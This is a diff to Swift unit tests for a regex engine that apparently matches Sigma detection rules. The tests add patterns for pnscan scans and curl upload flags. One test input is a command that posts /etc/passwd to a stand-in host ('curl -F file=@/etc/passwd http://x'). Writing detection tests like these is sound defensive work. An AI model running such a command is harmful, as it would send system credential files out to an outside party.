@@ -76,13 +76,29 @@ final class SigmaRegexTests: XCTestCase {
         XCTAssertLessThan(Double(DispatchTime.now().uptimeNanoseconds - start) / 1e6, 1000)
     }
 
-    /// The two-character start filter only ever skips values that cannot match.
-    func testStartPairsSkipOnlyValuesThatCannotMatch() throws {
+    /// The start filter (texts of 2 to 4 characters every match begins with)
+    /// only ever skips values that cannot match.
+    func testStartTextsSkipOnlyValuesThatCannotMatch() throws {
         let pnscan = try SigmaRegex(#"-(W|R)\s?(\s|"|')([0-9a-fA-F]{2}\s?){2,20}(\s|"|')"#)
-        XCTAssertEqual(pnscan.starts?.map { "\(Character(UnicodeScalar($0.0)))\(Character(UnicodeScalar($0.1)))" }, ["-R", "-W"])
+        // -W or -R, then one of \s's six characters or a quote (a fourth character
+        // would give 2 × (6 × 8 + 8 × 22) texts, too many to look for).
+        let quotes = Set(pnscan.starts?.map { String(decoding: $0, as: UTF8.self) } ?? [])
+        XCTAssertEqual(quotes.count, 16)
+        for dash in ["-W", "-R"] { for c in ["\t", "\n", "\u{0B}", "\u{0C}", "\r", " ", "\"", "'"] { XCTAssertTrue(quotes.contains(dash + c)) } }
         XCTAssertTrue(pnscan.matches("pnscan -W '41 42 43'"))
+        XCTAssertTrue(pnscan.matches("pnscan -R\t\t41 42\t"))
         XCTAssertFalse(pnscan.matches("pnscan -w '41 42 43'"), "case-sensitive")
+        XCTAssertFalse(pnscan.matches("pnscan -Wx '41 42 43'"))
         XCTAssertFalse(pnscan.matches("ls -la /var/log"))
+        // Four characters: \s, -, one of F T d, \s.
+        let curl = try SigmaRegex(#"\s-[FTd]\s"#)
+        XCTAssertEqual(curl.starts?.count, 6 * 3 * 6)
+        XCTAssertEqual(curl.starts?.first?.count, 4)
+        XCTAssertTrue(curl.matches("curl -F file=@/etc/passwd http://x"))
+        XCTAssertTrue(curl.matches("curl\t-d\rx"))
+        XCTAssertFalse(curl.matches("curl -fsSL https://example.com/install.sh"))
+        XCTAssertFalse(curl.matches("curl -D x"), "case-sensitive")
+        XCTAssertFalse(curl.matches(" -d"), "needs the space after")
         let folded = try SigmaRegex("ab", flags: SigmaRegex.Flags(caseInsensitive: true))
         XCTAssertEqual(folded.starts?.count, 4)
         XCTAssertTrue(folded.matches("xAB"))
